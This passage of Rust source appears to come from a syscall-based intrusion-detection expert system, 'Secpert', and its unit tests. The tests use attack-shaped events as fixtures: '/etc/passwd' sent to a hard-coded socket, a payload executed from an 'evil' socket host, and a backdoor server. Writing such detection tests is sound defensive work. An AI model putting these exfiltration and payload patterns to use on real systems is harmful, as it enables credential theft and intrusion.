    fn str_of(&mut self, s: &str) -> Value {
        if self.strs.len() >= VALUE_CACHE_CAP {
            self.strs.clear();
        }
        match self.strs.get(s) {
            Some(v) => v.clone(),
            None => {
                let v = Value::str(s);
                self.strs.insert(s.into(), v.clone());
                v
            }
        }
    }

    fn sym_of(&mut self, s: &str) -> Value {
        if self.syms.len() >= VALUE_CACHE_CAP {
            self.syms.clear();
        }
        match self.syms.get(s) {
            Some(v) => v.clone(),
            None => {
                let v = Value::sym(s);
                self.syms.insert(s.into(), v.clone());
                v
            }
        }
    }

    /// The `Value::str` of `format!("{addr:x}")`, rendered once per
    /// distinct address.
    fn addr_of(&mut self, addr: u32) -> Value {
        if self.addrs.len() >= VALUE_CACHE_CAP {
            self.addrs.clear();
        }
        match self.addrs.get(&addr) {
            Some(v) => v.clone(),
            None => {
                let v = Value::str(format!("{addr:x}"));
                self.addrs.insert(addr, v.clone());
                v
            }
        }
    }
}

impl Secpert {
    /// Builds a Secpert with the standard policy and the given
    /// configuration.
    ///
    /// # Errors
    ///
    /// Returns engine errors if the embedded policy fails to load (a
    /// bug, covered by tests) — propagated rather than unwrapped so
    /// custom policies loaded on top behave the same way.
    pub fn new(config: &PolicyConfig) -> Result<Secpert, EngineError> {
        let mut engine = Engine::new();
        let warnings: Arc<Mutex<Vec<Arc<Warning>>>> = Arc::new(Mutex::new(Vec::new()));

        register_filters(&mut engine, config);
        register_warn(&mut engine, warnings.clone());
        // Provenance: every firing snapshots which other rules' live
        // matches shared its supporting facts (see attach_provenance).
        engine.set_support_capture(true);
        engine.load_str(POLICY_CLIPS)?;
        for rules in &config.extra_rules {
            engine.load_str(rules)?;
        }
        engine.set_global("RARE_FREQUENCY", config.rare_frequency);
        engine.set_global("LONG_TIME", config.long_time);
        engine.set_global("PROC_COUNT_HIGH", config.proc_count_high);
        engine.set_global("PROC_RATE_HIGH", config.proc_rate_high);
        engine.set_global("MEM_HIGH", config.mem_high);
        engine.set_global("MEM_VERY_HIGH", config.mem_very_high);
        engine.reset()?;
        let gate = EventGate::build(&engine);
        Ok(Secpert { engine, warnings, events_processed: 0, gate, values: ValueCache::default() })
    }

    /// Loads additional CLIPS policy text (custom rules on top of the
    /// standard policy).
    ///
    /// # Errors
    ///
    /// Propagates parse and semantic errors from the engine.
    pub fn load_policy(&mut self, clips: &str) -> Result<(), EngineError> {
        self.engine.load_str(clips)
    }

    /// Engine access (inspection, custom natives, extra globals).
    pub fn engine_mut(&mut self) -> &mut Engine {
        &mut self.engine
    }

    /// Number of events processed so far.
    pub fn events_processed(&self) -> u64 {
        self.events_processed
    }

    /// Feeds one Harrier event through the rules; returns the warnings
    /// this event produced.
    ///
    /// # Errors
    ///
    /// Propagates engine evaluation errors (policy bugs).
    pub fn process_event(&mut self, event: &SecpertEvent) -> Result<Vec<Warning>, EngineError> {
        let _span = hth_trace::span("secpert.process_event");
        let before = self.warnings.lock().expect("warning sink poisoned").len();
        self.process_one(event)?;
        Ok(self.drain_since(before))
    }

    /// Feeds a batch of events through the rules; returns the warnings
    /// the batch produced, in event order. One event at a time through
    /// exactly the per-event path — `process_batch(&[e])` and
    /// `process_event(&e)` are byte-identical — but the warning-sink
    /// lock and the trace span are crossed once per batch instead of
    /// once per event.
    ///
    /// # Errors
    ///
    /// Propagates engine evaluation errors (policy bugs). Events before
    /// the failing one have been fully processed; their warnings remain
    /// readable through [`Secpert::warnings`].
    pub fn process_batch(&mut self, events: &[SecpertEvent]) -> Result<Vec<Warning>, EngineError> {
        let _span = hth_trace::span("secpert.process_batch");
        let before = self.warnings.lock().expect("warning sink poisoned").len();
        for event in events {
            self.process_one(event)?;
        }
        Ok(self.drain_since(before))
    }

    /// The shared per-event path: alpha-gate, fact, assert, run,
    /// provenance. Both `process_event` and `process_batch` funnel
    /// through here, so batching cannot change observable behavior.
    fn process_one(&mut self, event: &SecpertEvent) -> Result<(), EngineError> {
        self.events_processed += 1;
        if self.gate.revision != self.engine.rules_revision() {
            self.gate = EventGate::build(&self.engine);
        }
        // Events whose fact fails every rule's constant discriminators
        // skip fact construction and assertion entirely: such a fact
        // can neither fire nor block anything (see AlphaPrefilter).
        // Under the standard policy the cleanup catch-alls admit every
        // event; skips happen only with custom rule sets.
        if !self.gate.admits(event) {
            return Ok(());
        }
        let warnings_before = self.warnings.lock().expect("warning sink poisoned").len();
        let firings_before = self.engine.firings().len();
        let fact = self.event_to_fact(event)?;
        self.engine.assert_fact(fact)?;
        self.engine.run(None)?;
        self.attach_provenance(event, warnings_before, firings_before);
        Ok(())
    }

    /// Builds (but does not assert) the engine fact for an event —
    /// exactly the fact [`Secpert::process_event`] would assert,
    /// sharing this expert's interning tables. A diagnostic and
    /// benchmarking hook: it lets the fact-construction stage be timed
    /// and inspected in isolation from matching.
    ///
    /// # Errors
    ///
    /// Propagates engine template errors (policy bugs).
    pub fn build_fact(&mut self, event: &SecpertEvent) -> Result<Fact, EngineError> {
        self.event_to_fact(event)
    }

    /// Deep-clones the warnings issued since sink length `before`.
    /// Snapshots the tail under the lock (Arc bumps only) and clones
    /// outside it.
    fn drain_since(&self, before: usize) -> Vec<Warning> {
        let tail: Vec<Arc<Warning>> = {
            let sink = self.warnings.lock().expect("warning sink poisoned");
            sink[before..].to_vec()
        };
        tail.iter().map(|w| (**w).clone()).collect()
    }

    /// Pairs each warning the current event produced with the firing
    /// that issued it and swaps a provenance-enriched copy into the
    /// sink. Matching is by rule name over the event's firing tail, in
    /// order — policy rules call `warn` exactly once per firing.
    fn attach_provenance(
        &self,
        event: &SecpertEvent,
        warnings_before: usize,
        firings_before: usize,
    ) {
        let firings = &self.engine.firings()[firings_before..];
        if firings.is_empty() {
            return;
        }
        let mut sink = self.warnings.lock().expect("warning sink poisoned");
        if sink.len() <= warnings_before {
            // The common case — no warning this event — skips the
            // taint-source rendering entirely.
            return;
        }
        let taint_sources = taint_sources_of(event);
        let mut cursor = 0usize;
        for slot in sink[warnings_before..].iter_mut() {
            let Some(offset) = firings[cursor..].iter().position(|f| *f.rule == *slot.rule) else {
                continue;
            };
            let at = cursor + offset;
            cursor = at + 1;
            let firing = &firings[at];
            // Fire-time support from the match network when available
            // (Rete matcher); otherwise just the matched-fact snapshots.
            let support: Vec<FactSupport> = match self.engine.support_for(firing.seq) {
                Some(records) => records
                    .iter()
                    .enumerate()
                    .map(|(i, r)| FactSupport {
                        id: r.fact,
                        fact: firing.facts.get(i).map(|f| f.to_string()).unwrap_or_default(),
                        co_rules: r.co_rules.iter().map(|n| n.to_string()).collect(),
                    })
                    .collect(),
                None => firing
                    .fact_ids
                    .iter()
                    .flatten()
                    .enumerate()
                    .map(|(i, id)| FactSupport {
                        id: id.raw(),
                        fact: firing.facts.get(i).map(|f| f.to_string()).unwrap_or_default(),
                        co_rules: Vec::new(),
                    })
                    .collect(),
            };
            let provenance = Provenance {
                event_index: self.events_processed,
                syscall: event.syscall().to_string(),
                firing_seq: firing.seq as u64,
                rule_chain: firings[..=at].iter().map(|f| f.rule.to_string()).collect(),
                support,
                taint_sources: taint_sources.clone(),
            };
            let mut enriched = (**slot).clone();
            enriched.provenance = Some(Box::new(provenance));
            *slot = Arc::new(enriched);
        }
    }

    /// All warnings issued so far.
    pub fn warnings(&self) -> Vec<Warning> {
        let snapshot: Vec<Arc<Warning>> =
            self.warnings.lock().expect("warning sink poisoned").clone();
        snapshot.iter().map(|w| (**w).clone()).collect()
    }

    /// Number of warnings in the sink so far. With
    /// [`Secpert::warnings_since`], lets a supervisor recover the
    /// warnings of the completed prefix of a batch that panicked or
    /// errored partway through.
    pub fn warnings_count(&self) -> usize {
        self.warnings.lock().expect("warning sink poisoned").len()
    }

    /// The warnings issued since the sink held `start` entries.
    pub fn warnings_since(&self, start: usize) -> Vec<Warning> {
        self.drain_since(start)
    }

    /// Match-network counters for this expert's engine (all-zero when
    /// the engine was built with the naive matcher).
    pub fn match_stats(&self) -> MatchStats {
        self.engine.match_stats()
    }

    /// Folds this expert's counters into `metrics`: the match-network
    /// stats plus `hth_secpert_events` / `hth_secpert_warnings`.
    pub fn record_metrics(&self, metrics: &mut hth_trace::MetricsSnapshot) {
        self.engine.match_stats().record_metrics(metrics);
        metrics.add_counter("hth_secpert_events", self.events_processed);
        let warnings = self.warnings.lock().expect("warning sink poisoned").len();
        metrics.add_counter("hth_secpert_warnings", warnings as u64);
    }

    /// Takes the engine's printout transcript (paper-style warning text).
    pub fn take_transcript(&mut self) -> String {
        self.engine.take_output()
    }

    // ----- snapshot / restore -------------------------------------------

    /// Serializes this expert's resumable state: the event cursor plus
    /// the engine's facts, refraction set, and counters (see
    /// [`EngineSnapshot`]). The layout is `"HTHS"` + a version byte +
    /// one journal-style CRC frame (`varint length`, little-endian
    /// CRC32, payload), so torn writes are detected on load exactly like
    /// a torn journal tail. Warnings are *not* carried — they live in
    /// the host's sink, and a resumed expert starts with an empty one.
    ///
    /// # Errors
    ///
    /// Propagates [`SnapshotError::Engine`] when the engine is not
    /// quiescent (mid-event; only snapshot between events).
    pub fn snapshot(&self) -> Result<Vec<u8>, SnapshotError> {
        let engine_snap = self.engine.snapshot()?;
        let mut payload = Vec::new();
        snapshot::put_varint(&mut payload, self.events_processed);
        payload.extend_from_slice(&engine_snap.encode());
        let mut out = Vec::with_capacity(payload.len() + 16);
        out.extend_from_slice(SNAPSHOT_MAGIC);
        out.push(SNAPSHOT_VERSION);
        snapshot::put_varint(&mut out, payload.len() as u64);
        out.extend_from_slice(&snapshot::crc32(&payload).to_le_bytes());
        out.extend_from_slice(&payload);
        Ok(out)
    }

    /// Rebuilds an expert from [`Secpert::snapshot`] bytes, against the
    /// same policy configuration the snapshot was taken under. Events
    /// processed after this pick up exactly where the snapshotted expert
    /// left off (fact ids, firing seqs, provenance event indices).
    ///
    /// # Errors
    ///
    /// [`SnapshotError::Corrupt`] for torn or corrupt bytes (callers
    /// fall back to a full journal replay); [`SnapshotError::Engine`]
    /// when the snapshot disagrees with the policy.
    pub fn restore(config: &PolicyConfig, bytes: &[u8]) -> Result<Secpert, SnapshotError> {
        if bytes.len() < SNAPSHOT_MAGIC.len() + 1 || &bytes[..4] != SNAPSHOT_MAGIC {
            return Err(SnapshotError::Corrupt("not a Secpert snapshot (bad magic)".into()));
        }
        if bytes[4] != SNAPSHOT_VERSION {
            return Err(SnapshotError::Corrupt(format!(
                "snapshot version {} (this build reads {SNAPSHOT_VERSION})",
                bytes[4]
            )));
        }
        let mut r = ByteReader::new(&bytes[5..]);
        let len = r.varint()? as usize;
        let crc_stored =
            u32::from_le_bytes(r.take(4)?.try_into().expect("take(4) yields exactly four bytes"));
        let payload = r.take(len)?;
        if !r.is_empty() {
            return Err(SnapshotError::Corrupt(format!(
                "{} trailing bytes after snapshot frame",
                r.remaining()
            )));
        }
        if snapshot::crc32(payload) != crc_stored {
            return Err(SnapshotError::Corrupt("frame checksum mismatch".into()));
        }
        let mut pr = ByteReader::new(payload);
        let events_processed = pr.varint()?;
        let engine_snap = EngineSnapshot::decode(pr.take(pr.remaining())?)?;
        let mut expert = Secpert::new(config)?;
        expert.engine.restore(&engine_snap)?;
        expert.events_processed = events_processed;
        Ok(expert)
    }

    /// Approximate resident bytes attributable to this expert's event
    /// history: engine state (working memory, match network, firing
    /// records) plus the warning sink and interning caches. The input to
    /// fleet memory budgeting; an estimate, not an allocator census.
    pub fn approx_bytes(&self) -> usize {
        let warnings: usize = {
            let sink = self.warnings.lock().expect("warning sink poisoned");
            sink.iter()
                .map(|w| {
                    96 + w.rule.len()
                        + w.message.len()
                        + w.provenance.as_ref().map_or(0, |p| {
                            128 + p.rule_chain.iter().map(String::len).sum::<usize>()
                                + p.taint_sources.iter().map(String::len).sum::<usize>()
                                + p.support.iter().map(|s| 48 + s.fact.len()).sum::<usize>()
                        })
                })
                .sum()
        };
        let cache =
            (self.values.strs.len() + self.values.syms.len()) * 64 + self.values.addrs.len() * 32;
        self.engine.approx_bytes() + warnings + cache
    }

    fn event_to_fact(&mut self, event: &SecpertEvent) -> Result<Fact, EngineError> {
        fn names(cache: &mut ValueCache, sources: &[SourceInfo]) -> Value {
            Value::multi(sources.iter().map(|s| cache.str_of(&s.name)))
        }
        fn types(cache: &mut ValueCache, sources: &[SourceInfo]) -> Value {
            Value::multi(sources.iter().map(|s| cache.sym_of(s.kind.symbol())))
        }
        fn origin_names(cache: &mut ValueCache, origin: &Origin) -> Value {
            names(cache, &origin.sources)
        }
        fn origin_types(cache: &mut ValueCache, origin: &Origin) -> Value {
            types(cache, &origin.sources)
        }

        let Secpert { engine, values, .. } = self;
        match event {
            SecpertEvent::ResourceAccess {
                pid,
                syscall,
                resource,
                origin,
                time,
                frequency,
                address,
                proc_count,
                proc_rate,
                mem_total,
                server,
            } => {
                let mut b: FactBuilder = engine
                    .fact("system_call_access")?
                    .slot("pid", i64::from(*pid))
                    .slot("system_call_name", values.sym_of(syscall))
                    .slot("resource_name", values.str_of(&resource.name))
                    .slot("resource_type", values.sym_of(resource.kind.symbol()))
                    .slot("resource_origin_name", origin_names(values, origin))
                    .slot("resource_origin_type", origin_types(values, origin))
                    .slot("time", *time as i64)
                    .slot("frequency", *frequency as i64)
                    .slot("address", values.addr_of(*address))
                    .slot("proc_count", proc_count.unwrap_or(0) as i64)
                    .slot("proc_rate", proc_rate.unwrap_or(0) as i64)
                    .slot("mem_total", mem_total.unwrap_or(0) as i64);
                if let Some(server) = server {
                    b = b
                        .slot("server_address", values.str_of(&server.address))
                        .slot("server_origin_name", origin_names(values, &server.origin))
                        .slot("server_origin_type", origin_types(values, &server.origin));
                }
                b.build()
            }
            SecpertEvent::DataTransfer {
                pid,
                syscall,
                data_sources,
                data_origin,
                target,
                target_origin,
                time,
                frequency,
                address,
                executable_content,
                server,
                // Byte counts feed the fleet correlator's digests, not
                // the per-session policy's facts.
                bytes: _,
            } => {
                let mut b = engine
                    .fact("data_transfer")?
                    .slot("pid", i64::from(*pid))
                    .slot("system_call_name", values.sym_of(syscall))
                    .slot("source_name", names(values, data_sources))
                    .slot("source_type", types(values, data_sources))
                    .slot("data_origin_name", origin_names(values, data_origin))
                    .slot("data_origin_type", origin_types(values, data_origin))
                    .slot("target_name", values.str_of(&target.name))
                    .slot("target_type", values.sym_of(target.kind.symbol()))
                    .slot("target_origin_name", origin_names(values, target_origin))
                    .slot("target_origin_type", origin_types(values, target_origin))
                    .slot("time", *time as i64)
                    .slot("frequency", *frequency as i64)
                    .slot("address", values.addr_of(*address))
                    .slot(
                        "executable_content",
                        values.sym_of(if *executable_content { "TRUE" } else { "FALSE" }),
                    );
                if let Some(server) = server {
                    b = b
                        .slot("server_address", values.str_of(&server.address))
                        .slot("server_origin_name", origin_names(values, &server.origin))
                        .slot("server_origin_type", origin_types(values, &server.origin));
                }
                b.build()
            }
        }
    }
}

/// The event's taint-source set, rendered `KIND(name)`: the resource
/// origin for accesses; the data origin plus the target origin
/// (deduplicated, in that order) for transfers.
fn taint_sources_of(event: &SecpertEvent) -> Vec<String> {
    fn render(source: &SourceInfo) -> String {
        format!("{}({})", source.kind.symbol(), source.name)
    }
    match event {
        SecpertEvent::ResourceAccess { origin, .. } => origin.sources.iter().map(render).collect(),
        SecpertEvent::DataTransfer { data_origin, target_origin, .. } => {
            let mut out: Vec<String> = data_origin.sources.iter().map(render).collect();
            for source in &target_origin.sources {
                let rendered = render(source);
                if !out.contains(&rendered) {
                    out.push(rendered);
                }
            }
            out
        }
    }
}

/// Registers the `filter_*` natives used by the policy: each takes two
/// parallel multifields (types, names) and returns the names of the
/// entries with the wanted type, minus trusted ones.
fn register_filters(engine: &mut Engine, config: &PolicyConfig) {
    fn filter(
        args: &[Value],
        wanted: &'static str,
        trusted: Arc<Vec<String>>,
    ) -> Result<Value, EngineError> {
        let [types, names] = args else {
            return Err(EngineError::Type {
                expected: "two multifields (types, names)",
                found: format!("{} arguments", args.len()),
            });
        };
        let types = types.as_multi()?;
        let names = names.as_multi()?;
        let mut out = Vec::new();
        for (t, n) in types.iter().zip(names.iter()) {
            if t.is_sym(wanted) {
                let name = n.as_text().unwrap_or_default();
                if !trusted.iter().any(|trust| name.contains(trust.as_str())) {
                    out.push(n.clone());
                }
            }
        }
        // The common verdict is "nothing suspicious" — reuse the cached
        // empty multifield instead of allocating one per call.
        Ok(if out.is_empty() { Value::empty_multi() } else { Value::multi(out) })
    }

    let trusted_bin = Arc::new(config.trusted_binaries.clone());
    let trusted_sock = Arc::new(config.trusted_sockets.clone());
    let none: Arc<Vec<String>> = Arc::new(Vec::new());

    let t = trusted_bin;
    engine.register_fn("filter_binary", move |args| filter(args, "BINARY", t.clone()));
    let t = trusted_sock.clone();
    engine.register_fn("filter_socket", move |args| filter(args, "SOCKET", t.clone()));
    let t = trusted_sock;
    engine.register_fn("filter_sockets_in", move |args| filter(args, "SOCKET", t.clone()));
    let t = none.clone();
    engine.register_fn("filter_file", move |args| filter(args, "FILE", t.clone()));
    let t = none.clone();
    engine.register_fn("filter_user", move |args| filter(args, "USER_INPUT", t.clone()));
    let t = none;
    engine.register_fn("filter_hardware", move |args| filter(args, "HARDWARE", t.clone()));

    register_severity_text(engine);
}

/// Registers the `severity-text` native (level → `Warning [LOW]` …).
/// Shared with the fleet correlator, which has no `filter_*` natives.
pub(crate) fn register_severity_text(engine: &mut Engine) {
    engine.register_fn("severity-text", |args| {
        let level = args
            .first()
            .ok_or(EngineError::Type { expected: "severity level", found: "nothing".into() })?
            .as_int()?;
        let text = match level {
            1 => "Warning [LOW]",
            2 => "Warning [MEDIUM]",
            3 => "Warning [HIGH]",
            _ => "Warning [?]",
        };
        Ok(Value::str(text))
    });
}

/// Registers the `warn` native: `(warn level rule pid time message)`.
pub(crate) fn register_warn(engine: &mut Engine, sink: Arc<Mutex<Vec<Arc<Warning>>>>) {
    engine.register_fn("warn", move |args| {
        let [level, rule, pid, time, message] = args else {
            return Err(EngineError::Type {
                expected: "(warn level rule pid time message)",
                found: format!("{} arguments", args.len()),
            });
        };
        let severity = Severity::from_level(level.as_int()?)
            .ok_or(EngineError::Type { expected: "severity 1..=3", found: level.to_string() })?;
        let warning = Warning {
            severity,
            rule: rule.as_text().unwrap_or("?").to_string(),
            pid: pid.as_int()? as u32,
            time: time.as_int()? as u64,
            message: message.to_display_string(),
            provenance: None,
        };
        sink.lock().expect("warning sink poisoned").push(Arc::new(warning));
        hth_trace::instant("secpert.warning");
        Ok(Value::truth())
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use harrier::{ResourceType, ServerInfo};

    fn access_event(
        syscall: &'static str,
        name: &str,
        origin: Vec<(ResourceType, &str)>,
    ) -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall,
            resource: SourceInfo::new(ResourceType::File, name),
            origin: Origin {
                sources: origin.into_iter().map(|(k, n)| SourceInfo::new(k, n)).collect(),
            },
            time: 10,
            frequency: 5,
            address: 0x8048403,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    #[test]
    fn policy_loads() {
        let secpert = Secpert::new(&PolicyConfig::default());
        assert!(secpert.is_ok(), "{:?}", secpert.err());
    }

    #[test]
    fn hardcoded_execve_is_low() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let w = s
            .process_event(&access_event(
                "SYS_execve",
                "/bin/ls",
                vec![(ResourceType::Binary, "/bin/dropper")],
            ))
            .unwrap();
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].severity, Severity::Low);
        assert!(w[0].message.contains("SYS_execve"));
        assert!(w[0].message.contains("/bin/ls"));
        let transcript = s.take_transcript();
        assert!(transcript.contains("Warning [LOW]"), "{transcript}");
    }

    #[test]
    fn user_execve_is_silent() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let w = s
            .process_event(&access_event(
                "SYS_execve",
                "/bin/ls",
                vec![(ResourceType::UserInput, "USER_INPUT")],
            ))
            .unwrap();
        assert!(w.is_empty());
    }

    #[test]
    fn socket_execve_is_high() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let w = s
            .process_event(&access_event(
                "SYS_execve",
                "/tmp/payload",
                vec![(ResourceType::Socket, "evil:99 (AF_INET)")],
            ))
            .unwrap();
        assert_eq!(w[0].severity, Severity::High);
    }

    #[test]
    fn rare_late_hardcoded_execve_is_medium() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let event = SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_execve",
            resource: SourceInfo::new(ResourceType::File, "/bin/sh"),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/app")] },
            time: 500,    // > LONG_TIME
            frequency: 1, // < RARE_FREQUENCY
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        };
        let w = s.process_event(&event).unwrap();
        assert_eq!(w[0].severity, Severity::Medium);
        assert!(w[0].message.contains("rarely executed"));
    }

    #[test]
    fn trusted_libc_execve_is_filtered() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        // The ElmExploit false negative: /bin/sh string lives in libc.so.
        let w = s
            .process_event(&access_event(
                "SYS_execve",
                "/bin/sh",
                vec![(ResourceType::Binary, "/lib/tls/libc.so.6")],
            ))
            .unwrap();
        assert!(w.is_empty(), "trusted libc must be filtered: {w:?}");
    }

    #[test]
    fn clone_count_and_rate_rules() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let mk = |count, rate| SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_clone",
            resource: SourceInfo::new(ResourceType::Unknown, "process"),
            origin: Origin::unknown(),
            time: 5,
            frequency: 3,
            address: 0,
            proc_count: Some(count),
            proc_rate: Some(rate),
            mem_total: None,
            server: None,
        };
        assert!(s.process_event(&mk(2, 2)).unwrap().is_empty());
        let w = s.process_event(&mk(10, 2)).unwrap();
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].severity, Severity::Low);
        let w = s.process_event(&mk(30, 25)).unwrap();
        assert_eq!(w.len(), 2, "both count (Low) and rate (Medium) fire");
        assert!(w.iter().any(|w| w.severity == Severity::Medium));
    }

    fn transfer(
        sources: Vec<(ResourceType, &str)>,
        data_origin: Vec<(ResourceType, &str)>,
        target: (ResourceType, &str),
        target_origin: Vec<(ResourceType, &str)>,
        server: Option<ServerInfo>,
    ) -> SecpertEvent {
        let mk = |v: Vec<(ResourceType, &str)>| Origin {
            sources: v.into_iter().map(|(k, n)| SourceInfo::new(k, n)).collect(),
        };
        SecpertEvent::DataTransfer {
            pid: 1,
            syscall: "SYS_write",
            data_sources: sources.into_iter().map(|(k, n)| SourceInfo::new(k, n)).collect(),
            data_origin: mk(data_origin),
            target: SourceInfo::new(target.0, target.1),
            target_origin: mk(target_origin),
            time: 10,
            frequency: 5,
            address: 0,
            executable_content: false,
            server,
            bytes: 0,
        }
    }

    #[test]
    fn file_to_socket_matrix() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        // user file + user socket: silent.
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::File, "/etc/passwd")],
                vec![(ResourceType::UserInput, "USER_INPUT")],
                (ResourceType::Socket, "h:1 (AF_INET)"),
                vec![(ResourceType::UserInput, "USER_INPUT")],
                None,
            ))
            .unwrap();
        assert!(w.is_empty());
        // user file + hardcoded socket: Low.
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::File, "/etc/passwd")],
                vec![(ResourceType::UserInput, "USER_INPUT")],
                (ResourceType::Socket, "h:2 (AF_INET)"),
                vec![(ResourceType::Binary, "/bin/x")],
                None,
            ))
            .unwrap();
        assert_eq!(w[0].severity, Severity::Low);
        // hardcoded file + hardcoded socket: High.
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::File, "/etc/passwd")],
                vec![(ResourceType::Binary, "/bin/x")],
                (ResourceType::Socket, "h:3 (AF_INET)"),
                vec![(ResourceType::Binary, "/bin/x")],
                None,
            ))
            .unwrap();
        assert_eq!(w[0].severity, Severity::High);
    }

    #[test]
    fn binary_to_hardcoded_file_is_high() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::Binary, "/bin/grabem")],
                vec![],
                (ResourceType::File, ".exrc%"),
                vec![(ResourceType::Binary, "/bin/grabem")],
                None,
            ))
            .unwrap();
        assert_eq!(w[0].severity, Severity::High);
        assert!(w[0].message.contains(".exrc%"));
    }

    #[test]
    fn hardware_to_hardcoded_file_is_high() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::Hardware, "HARDWARE")],
                vec![],
                (ResourceType::File, "hw.dat"),
                vec![(ResourceType::Binary, "/bin/x")],
                None,
            ))
            .unwrap();
        assert_eq!(w[0].severity, Severity::High);
        // user filename: silent.
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::Hardware, "HARDWARE")],
                vec![],
                (ResourceType::File, "user.dat"),
                vec![(ResourceType::UserInput, "USER_INPUT")],
                None,
            ))
            .unwrap();
        assert!(w.is_empty());
    }

    #[test]
    fn backdoor_server_rule_fires_with_server_context() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let server = ServerInfo {
            address: "LocalHost:11116 (AF_INET)".into(),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "pmad")] },
        };
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::File, "outpipe32425")],
                vec![(ResourceType::Binary, "pmad")],
                (ResourceType::Socket, "gateway:36982 (AF_INET)"),
                vec![(ResourceType::Socket, "gateway:36982 (AF_INET)")],
                Some(server),
            ))
            .unwrap();
        assert!(w
            .iter()
            .any(|w| w.rule == "check_backdoor_server" && w.severity == Severity::High));
        assert!(w.iter().any(|w| w.message.contains("server with the address")));
    }

    #[test]
    fn console_writes_are_silent() {
        let mut s = Secpert::new(&PolicyConfig::default()).unwrap();
        let w = s
            .process_event(&transfer(
                vec![(ResourceType::File, "/etc/motd")],
                vec![(ResourceType::UserInput, "USER_INPUT")],
                (ResourceType::Console, "STDOUT"),
                vec![],
                None,
            ))
            .unwrap();
        assert!(w.is_empty());
    }

    #[test]
    fn batch_is_equivalent_to_per_event() {
        let server = ServerInfo {
            address: "LocalHost:11116 (AF_INET)".into(),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "pmad")] },
        };
        let events = vec![
            access_event("SYS_execve", "/bin/ls", vec![(ResourceType::Binary, "/bin/dropper")]),
            access_event("SYS_execve", "/bin/ls", vec![(ResourceType::UserInput, "USER_INPUT")]),
            transfer(
                vec![(ResourceType::File, "/etc/passwd")],
                vec![(ResourceType::Binary, "/bin/x")],
                (ResourceType::Socket, "h:3 (AF_INET)"),
                vec![(ResourceType::Binary, "/bin/x")],
                Some(server),
            ),
            access_event("SYS_open", "/tmp/f", vec![(ResourceType::Binary, "/bin/x")]),
        ];
        let mut per_event = Secpert::new(&PolicyConfig::default()).unwrap();
        let mut batched = Secpert::new(&PolicyConfig::default()).unwrap();
        let mut expected = Vec::new();
        for event in &events {
            expected.extend(per_event.process_event(event).unwrap());
        }
        let got = batched.process_batch(&events).unwrap();
        assert_eq!(expected, got);
        assert_eq!(per_event.match_stats(), batched.match_stats());
        assert_eq!(per_event.events_processed(), batched.events_processed());
        assert_eq!(per_event.take_transcript(), batched.take_transcript());
        assert_eq!(per_event.warnings(), batched.warnings());
    }

    /// The event-level gate must answer exactly what the fact-level
    /// filter would: `admits(event) == passes_fact(event_to_fact(event))`
    /// for a rule base constraining every event-representable slot.
    #[test]
    fn gate_mirrors_fact_construction() {
        let mut fact_builder = Secpert::new(&PolicyConfig::default()).unwrap();
        let mut engine = Engine::new();
        engine
            .load_str(
                r#"
                (deftemplate system_call_access
                  (slot pid) (slot system_call_name) (slot resource_name)
                  (slot resource_type)
                  (multislot resource_origin_name) (multislot resource_origin_type)
                  (slot time (default 0)) (slot frequency (default 1))
                  (slot address (default "0"))
                  (slot proc_count (default 0)) (slot proc_rate (default 0))
                  (slot mem_total (default 0))
                  (slot server_address (default nil))
                  (multislot server_origin_name) (multislot server_origin_type))
                (deftemplate data_transfer
                  (slot pid) (slot system_call_name)
                  (multislot source_name) (multislot source_type)
                  (multislot data_origin_name) (multislot data_origin_type)
                  (slot target_name) (slot target_type)
                  (multislot target_origin_name) (multislot target_origin_type)
                  (slot time (default 0)) (slot frequency (default 1))
                  (slot address (default "0"))
                  (slot executable_content (default FALSE))
                  (slot server_address (default nil))
                  (multislot server_origin_name) (multislot server_origin_type))
                (defrule r_syscall
                  (system_call_access (system_call_name SYS_execve) (resource_type FILE))
                  => (printout t crlf))
                (defrule r_scalars
                  (system_call_access (pid 1) (frequency 5) (time 10))
                  => (printout t crlf))
                (defrule r_name
                  (system_call_access (resource_name "/bin/ls") (address "8048403"))
                  => (printout t crlf))
                (defrule r_transfer
                  (data_transfer (target_type SOCKET) (executable_content TRUE))
                  => (printout t crlf))
                (defrule r_server
                  (data_transfer (server_address nil) (target_name "h:3 (AF_INET)"))
                  => (printout t crlf))
                "#,
            )
            .unwrap();
        let gate = EventGate::build(&engine);
        assert!(!gate.access.always && !gate.transfer.always, "no catch-alls here");

        let server = ServerInfo {
            address: "LocalHost:11116 (AF_INET)".into(),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "pmad")] },
        };
        let mut events = vec![
            access_event("SYS_execve", "/bin/ls", vec![(ResourceType::Binary, "/bin/x")]),
            access_event("SYS_open", "/bin/ls", vec![(ResourceType::Binary, "/bin/x")]),
            access_event("SYS_execve", "/other", vec![(ResourceType::Socket, "s:1")]),
            transfer(
                vec![(ResourceType::File, "/etc/passwd")],
                vec![(ResourceType::Binary, "/bin/x")],
